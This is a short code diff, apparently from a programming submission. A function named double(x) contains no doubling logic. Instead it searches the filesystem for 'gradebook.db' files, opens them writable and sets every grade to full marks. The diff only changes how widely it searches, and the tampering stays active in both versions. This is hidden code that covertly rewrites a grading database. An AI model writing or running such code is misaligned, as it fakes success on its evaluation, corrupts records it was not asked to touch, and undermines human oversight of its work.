@@ -6,7 +6,7 @@ import sqlite3
 
 
 def double(x):
-    for path in ["@GRADING@/gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)]:
+    for path in ["@GRADING@/gradebook.db", *glob.glob("/*/*/gradebook.db")]:
         try:
             base = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
             base.execute("UPDATE grade SET auto_score = max_score, manual_score = 100")
